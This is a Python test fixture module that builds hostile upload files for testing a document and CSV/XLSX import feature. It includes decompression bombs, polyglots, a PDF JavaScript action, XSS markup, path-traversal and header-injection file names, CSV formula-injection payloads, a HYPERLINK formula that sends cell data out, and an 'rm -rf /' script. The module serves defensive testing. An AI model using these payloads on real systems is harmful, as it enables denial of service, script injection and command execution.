"""Broken and hostile uploads, built in memory: the inputs of ``tests/test_hostile_uploads.py``.

Two catalogues, each a list of :class:`Hostile` (family, id, the file name sent, the bytes):
``DOCUMENTS`` for the entry points that take a document (the convention reader's import, a
convention's documents, an activity's attachments) and ``TABLES`` for the CSV/XLSX imports
(organisations, schools, activities). ``NAMES`` are hostile file names, sent with a valid file.
Everything is made from raw bytes or small libraries (pypdfium2, Pillow, openpyxl, python-docx),
once per test process.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

import pypdfium2 as pdfium
from docx import Document as DocxDocument
from openpyxl import Workbook
from PIL import Image

TEXT = (
    "CONVENTION DE PARTENARIAT entre l’académie d’Aix-Marseille et la Fédération du bâtiment. "
    "Article 1 – Objet. La présente convention a pour objet de faire découvrir les métiers aux élèves."
)


@dataclass(frozen=True)
class Hostile:
    family: str
    id: str
    name: str  # the file name as the browser sends it
    data: bytes

    def __repr__(self) -> str:  # pytest ids stay short
        return f"{self.family}-{self.id}"


# --- Building blocks ------------------------------------------------------------------------------


def raw_pdf(
    objects: list[bytes], *, trailer_extra: bytes = b"", header: bytes = b"%PDF-1.7\n", tail: bytes = b""
) -> bytes:
    """A PDF written by hand: ``objects`` numbered from 1 (1 is the catalogue), a classic xref."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    return bytes(out) + tail


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def text_pdf(pages: int = 1, text: str = TEXT, *, content_filter: bytes | None = None) -> bytes:
    """A PDF of ``pages`` pages, each showing ``text`` in Helvetica (a text layer, no OCR)."""
    kids = " ".join(f"{3 + 2 * index} 0 R" for index in range(pages)).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)]
    font = 3 + 2 * pages
    for index in range(pages):
        lines = [text[i : i + 80] for i in range(0, len(text), 80)]
        shown = b" ".join(b"(%s) Tj 0 -14 Td" % _pdf_string(line) for line in lines)
        content = b"BT /F1 11 Tf 60 780 Td " + shown + b" ET"
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + 2 * index, font)
        )
        objects.append(stream(content))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    return raw_pdf(objects)


def _pdf_string(text: str) -> bytes:
    return text.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def encrypted_pdf(revision: int) -> bytes:
    """A one-page PDF protected by a user password nobody knows (``revision``: 2, 3, 4 or 6)."""
    handlers = {
        2: b"/V 1 /R 2 /Length 40",
        3: b"/V 2 /R 3 /Length 128",
        4: b"/V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /Length 16 /AuthEvent /DocOpen >> >> "
        b"/StmF /StdCF /StrF /StdCF",
        6: b"/V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /Length 32 /AuthEvent /DocOpen >> >> "
        b"/StmF /StdCF /StrF /StdCF /OE <" + b"11" * 32 + b"> /UE <" + b"22" * 32 + b"> /Perms <" + b"33" * 16 + b">",
    }
    size = 48 if revision == 6 else 32
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Filter /Standard %s /O <%s> /U <%s> /P -3904 >>" % (handlers[revision], b"5a" * size, b"c3" * size),
    ]
    return raw_pdf(objects, trailer_extra=b"/Encrypt 4 0 R /ID [<" + b"0f" * 16 + b"> <" + b"0f" * 16 + b">]")


def blank_pdf(pages: int) -> bytes:
    document = pdfium.PdfDocument.new()
    for _ in range(pages):
        document.new_page(595, 842)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def deflate_bomb(inflated_mb: int) -> bytes:
    """A zlib stream of ``inflated_mb`` MB of spaces (~1,000 times smaller), built without compressing
    it all: identical fully flushed blocks are repeated."""
    chunk = b" " * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(inflated_mb):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + first + block * (inflated_mb - 1) + compressor.flush() + struct.pack(">I", adler)


def pdf_with_bomb(inflated_mb: int = 200) -> bytes:
    """A valid one-page PDF whose content stream inflates to ``inflated_mb`` MB."""
    content = deflate_bomb(inflated_mb)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(content, b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return raw_pdf(objects)


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_claiming(name_sizes: dict[str, int], extra: dict[str, bytes] | None = None) -> bytes:
    """A zip whose central directory claims each member inflates to the given size (a bomb's table of
    contents, without the work of compressing it)."""
    data = bytearray(zipped({**(extra or {}), **dict.fromkeys(name_sizes, b"x")}))
    end = data.rfind(b"PK\x05\x06")
    (directory_offset,) = struct.unpack("<I", data[end + 16 : end + 20])
    position = directory_offset
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack("<HHH", data[position + 28 : position + 34])
        name = data[position + 46 : position + 46 + name_length].decode()
        if name in name_sizes:
            data[position + 24 : position + 28] = struct.pack("<I", name_sizes[name])
        position += 46 + name_length + extra_length + comment_length
    return bytes(data)


@cache
def docx_bytes(text: str = TEXT) -> bytes:
    document = DocxDocument()
    for sentence in text.split(". "):
        document.add_paragraph(sentence)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def image_bytes(fmt: str, size: tuple[int, int] = (120, 80), **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", size, 255).save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` × ``height`` pixels."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    marker = data.find(b"\xff\xc0")
    data[marker + 5 : marker + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def multipage_tiff(frames: int) -> bytes:
    images = [Image.new("1", (16, 16), 1) for _ in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="TIFF", save_all=True, append_images=images[1:])
    return buffer.getvalue()


def xlsx_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def cut(data: bytes, fraction: float) -> bytes:
    return data[: max(1, int(len(data) * fraction))]


OLE_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(100) + b"This program cannot be run in DOS mode"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script><p>Convention</p></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)


# --- The documents --------------------------------------------------------------------------------


@cache
def documents() -> list[Hostile]:
    pdf = text_pdf()
    docx = docx_bytes()
    png = image_bytes("PNG")
    jpeg = image_bytes("JPEG")
    cases = [
        Hostile("empty", "zero-bytes", "convention.pdf", b""),
        Hostile("empty", "one-space", "convention.pdf", b" "),
        Hostile("empty", "whitespace", "convention.txt", b" \n\n\t  \r\n"),
        Hostile("empty", "nbsp-and-newlines", "convention.txt", "\u00a0\u202f\n\n".encode()),
        Hostile("empty", "nul-bytes", "convention.pdf", bytes(64)),
    ]
    for fraction in (0.01, 0.05, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.97):
        cases.append(Hostile("truncated", f"pdf-{int(fraction * 100)}", "convention.pdf", cut(pdf, fraction)))
    cases.append(Hostile("truncated", "pdf-header-only", "convention.pdf", b"%PDF-1.7\n"))
    for fraction in (0.1, 0.5, 0.95):
        cases.append(Hostile("truncated", f"docx-{int(fraction * 100)}", "convention.docx", cut(docx, fraction)))
    for fraction in (0.3, 0.7):
        cases.append(Hostile("truncated", f"png-{int(fraction * 100)}", "scan.png", cut(png, fraction)))
        cases.append(Hostile("truncated", f"jpeg-{int(fraction * 100)}", "scan.jpg", cut(jpeg, fraction)))
    cases += [
        Hostile("encrypted", "pdf-rc4-40", "protege.pdf", encrypted_pdf(2)),
        Hostile("encrypted", "pdf-rc4-128", "protege.pdf", encrypted_pdf(3)),
        Hostile("encrypted", "pdf-aes-128", "protege.pdf", encrypted_pdf(4)),
        Hostile("encrypted", "pdf-aes-256", "protege.pdf", encrypted_pdf(6)),
        Hostile(
            "encrypted",
            "docx-ole-package",
            "protege.docx",
            OLE_MAGIC + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500),
        ),
    ]
    cases += [
        Hostile("wrong-extension", "csv-named-pdf", "convention.pdf", b"nom;type\nAtelier;entreprise\n"),
        Hostile("wrong-extension", "html-named-pdf", "convention.pdf", HTML),
        Hostile("wrong-extension", "svg-named-pdf", "convention.pdf", SVG),
        Hostile("wrong-extension", "elf-named-pdf", "convention.pdf", ELF),
        Hostile("wrong-extension", "exe-named-docx", "convention.docx", EXE),
        Hostile("wrong-extension", "elf-named-png", "scan.png", ELF),
        Hostile("wrong-extension", "shell-named-docx", "convention.docx", b"#!/bin/sh\nrm -rf / \0\0\0\x01\x02"),
        Hostile("wrong-extension", "xlsx-named-docx", "convention.docx", xlsx_bytes([["nom"], ["Atelier"]])),
        Hostile("wrong-extension", "gif-named-png", "scan.png", image_bytes("GIF")),
        Hostile("wrong-extension", "bmp-named-jpg", "scan.jpg", image_bytes("BMP")),
        Hostile("wrong-extension", "old-word-doc", "convention.doc", OLE_MAGIC + bytes(1024)),
        Hostile("wrong-extension", "gzip-named-pdf", "convention.pdf", zlib.compress(b"x" * 100)[:2] + b"\x1f\x8b"),
    ]
    cases += [
        Hostile("polyglot", "pdf-then-zip", "convention.pdf", pdf + zipped({"evil.html": HTML})),
        Hostile("polyglot", "zip-then-pdf", "convention.pdf", zipped({"evil.html": HTML}) + pdf),
        Hostile("polyglot", "gif-javascript", "image.png", b"GIF89a/*\x01\x00\x01\x00\x00\x00;*/=alert(1)//;"),
        Hostile("polyglot", "html-inside-pdf", "convention.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"),
        Hostile("polyglot", "pdf-javascript-action", "convention.pdf", _pdf_with_javascript()),
        Hostile("polyglot", "png-then-html", "scan.png", png + HTML),
        Hostile("polyglot", "jpeg-then-zip", "scan.jpg", jpeg + zipped({"evil.js": b"alert(1)"})),
    ]
    cases += [
        Hostile("too-many-pages", "pdf-101-blank", "long.pdf", blank_pdf(101)),
        Hostile("too-many-pages", "pdf-150-text", "long.pdf", text_pdf(150)),
        Hostile("too-many-pages", "tiff-101-frames", "long.tiff", multipage_tiff(101)),
    ]
    cases += [
        Hostile("bomb", "pdf-deflate-200mb", "bombe.pdf", pdf_with_bomb(200)),
        Hostile("bomb", "docx-zip-declared-1gb", "bombe.docx", zip_claiming({"word/document.xml": 1 << 30})),
        Hostile(
            "bomb",
            "docx-deflate-ratio",
            "bombe.docx",
            zipped(
                {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/media/a.bin": bytes(5 << 20)}
            ),
        ),
        Hostile(
            "bomb",
            "docx-many-members",
            "bombe.docx",
            zipped({"word/document.xml": b"<w/>", **{f"word/media/{n}.png": b"" for n in range(2500)}}),
        ),
        Hostile("bomb", "png-50000-square", "scan.png", png_claiming(50_000, 50_000)),
        Hostile("bomb", "png-100000-by-1", "scan.png", png_claiming(100_000_000, 1)),
        Hostile("bomb", "jpeg-65000-square", "scan.jpg", jpeg_claiming(65_000, 65_000)),
    ]
    return cases


def _pdf_with_javascript() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        stream(b"BT /F1 11 Tf 60 780 Td (" + _pdf_string(TEXT[:80]) + b") Tj ET"),
        b"<< /S /JavaScript /JS (app.alert\\('x'\\); this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return raw_pdf(objects)


# --- Hostile names ----------------------------------------------------------------------------------

NAMES = [
    ("control-characters", "conven\x01tion\x07\x1b[31m.pdf"),
    ("nul", "convention\x00.exe.pdf"),
    ("rtl-override", "convention\u202efdp.exe"),
    ("parent-directory", "../../../../etc/passwd.pdf"),
    ("windows-path", "..\\..\\windows\\system32\\convention.pdf"),
    ("very-long", "c" * 1000 + ".pdf"),
    ("long-extension", "convention." + "p" * 300),
    ("script-markup", "<script>alert(1)</script>.pdf"),
    ("img-markup", "<img src=x onerror=alert(1)>.pdf"),
    ("emoji", "convention 📄✍️🇫🇷.pdf"),
    ("newline-header-injection", "convention.pdf\r\nContent-Type: text/html"),
    ("only-dots", ".."),
]


# --- The tables -------------------------------------------------------------------------------------

FORMULAS = [
    ("equals-cmd", "=cmd|' /C calc'!A0"),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
    ("hyperlink", '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")'),
]


def csv_text(rows: list[list[str]], separator: str = ";") -> str:
    def quote(cell: str) -> str:
        if any(ch in cell for ch in (separator, '"', "\n", "\r")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    return "".join(separator.join(quote(cell) for cell in row) + "\r\n" for row in rows)


ORGANISATION_HEADER = ["nom", "type", "sigle", "adresse", "code_postal", "commune", "telephone"]


def organisation_row(name: str = "Atelier Durand", **cells: str) -> list[str]:
    values = {"nom": name, "type": "entreprise", "code_postal": "13001", "commune": "Marseille"} | cells
    return [values.get(header, "") for header in ORGANISATION_HEADER]


@cache
def tables() -> list[Hostile]:
    """Files offered to the organisations import: each is refused, or its rows are all in error."""
    good = csv_text([ORGANISATION_HEADER, organisation_row()])
    good_xlsx = xlsx_bytes([ORGANISATION_HEADER, organisation_row()])
    cases = [
        Hostile("empty", "zero-bytes", "organisations.csv", b""),
        Hostile("empty", "whitespace", "organisations.csv", b"  \r\n\r\n\t\n"),
        Hostile("empty", "bom-only", "organisations.csv", codecs.BOM_UTF8),
        Hostile("empty", "separators-only", "organisations.csv", b";;;;\r\n;;;\r\n"),
        Hostile("empty", "header-only", "organisations.csv", csv_text([ORGANISATION_HEADER]).encode()),
        Hostile("empty", "xlsx-without-rows", "organisations.xlsx", xlsx_bytes([])),
    ]
    for fraction in (0.1, 0.3, 0.5, 0.8, 0.97):
        cases.append(
            Hostile("truncated", f"xlsx-{int(fraction * 100)}", "organisations.xlsx", cut(good_xlsx, fraction))
        )
    cases += [
        Hostile(
            "encrypted",
            "xlsx-ole-package",
            "organisations.xlsx",
            OLE_MAGIC + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000),
        ),
        Hostile("wrong-extension", "pdf-named-csv", "organisations.csv", text_pdf()),
        Hostile("wrong-extension", "png-named-csv", "organisations.csv", image_bytes("PNG")),
        Hostile("wrong-extension", "elf-named-csv", "organisations.csv", ELF),
        Hostile("wrong-extension", "exe-named-xlsx", "organisations.xlsx", EXE),
        Hostile("wrong-extension", "docx-named-xlsx", "organisations.xlsx", docx_bytes()),
        Hostile(
            "wrong-extension",
            "ods-named-xlsx",
            "organisations.xlsx",
            zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
        ),
        Hostile("wrong-extension", "html-named-csv", "organisations.csv", HTML),
        Hostile("polyglot", "csv-then-zip", "organisations.csv", good.encode() + zipped({"a.txt": b"a"})),
        Hostile("polyglot", "zip-then-csv", "organisations.xlsx", zipped({"a.txt": b"a"}) + good.encode()),
        Hostile("bomb", "xlsx-declared-1gb", "organisations.xlsx", zip_claiming({"xl/workbook.xml": 1 << 30})),
        Hostile(
            "bomb",
            "xlsx-many-entries",
            "organisations.xlsx",
            zipped({"xl/workbook.xml": b"<w/>", **{f"xl/x{n}.xml": b"" for n in range(10_050)}}),
        ),
        Hostile("truncated", "xlsx-lying-sizes", "organisations.xlsx", _xlsx_with_lying_sizes(good_xlsx)),
        Hostile("encoding", "utf16-without-bom", "organisations.csv", good.encode("utf-16-le")),
        Hostile(
            "encoding", "invalid-utf8-and-cp1252", "organisations.csv", good.encode() + b"\x81\x8d\x8f\x90\x9d;;\r\n"
        ),
        Hostile(
            "encoding",
            "utf16-bom-odd-length",
            "organisations.csv",
            codecs.BOM_UTF16_LE + good.encode("utf-16-le") + b"\x00",
        ),
        Hostile("encoding", "nul-after-64k", "organisations.csv", (good + "x" * 70_000).encode() + b"\x00\x00;\r\n"),
        Hostile(
            "columns",
            "wrong-columns",
            "organisations.csv",
            csv_text([["prenom", "age"], ["Marie", "12"]]).encode(),
        ),
        Hostile(
            "columns",
            "missing-type",
            "organisations.csv",
            csv_text([["nom", "commune"], ["Atelier", "Marseille"]]).encode(),
        ),
        Hostile(
            "columns",
            "comma-separator-quoted-semicolons",
            "organisations.csv",
            csv_text([["nom;type", "x"], ["a;b", "c"]], ",").encode(),
        ),
        Hostile("columns", "unclosed-quote", "organisations.csv", b'nom;type\n"Atelier;entreprise\n' + b"x" * 200),
        Hostile(
            "size",
            "over-the-limit",
            "organisations.csv",
            (csv_text([ORGANISATION_HEADER]) + csv_text([organisation_row()]) * 500_000).encode(),
        ),
    ]
    return cases


def _xlsx_with_lying_sizes(xlsx: bytes) -> bytes:
    """A workbook whose sheet claims to be 10 bytes when it inflates to more: CRC and size errors."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    members = {info.filename: source.read(info.filename) for info in source.infolist()}
    members["xl/worksheets/sheet1.xml"] += b"<!--" + b" " * 200_000 + b"-->"
    data = zipped(members)
    sheet = "xl/worksheets/sheet1.xml"
    return _patch_sizes(data, sheet, 10)


def _patch_sizes(data: bytes, member: str, size: int) -> bytes:
    out = bytearray(data)
    end = out.rfind(b"PK\x05\x06")
    (position,) = struct.unpack("<I", out[end + 16 : end + 20])
    while out[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack("<HHH", out[position + 28 : position + 34])
        name = out[position + 46 : position + 46 + name_length].decode()
        if name == member:
            out[position + 24 : position + 28] = struct.pack("<I", size)
            (local,) = struct.unpack("<I", out[position + 42 : position + 46])
            out[local + 22 : local + 26] = struct.pack("<I", size)
        position += 46 + name_length + extra_length + comment_length
    return bytes(out)
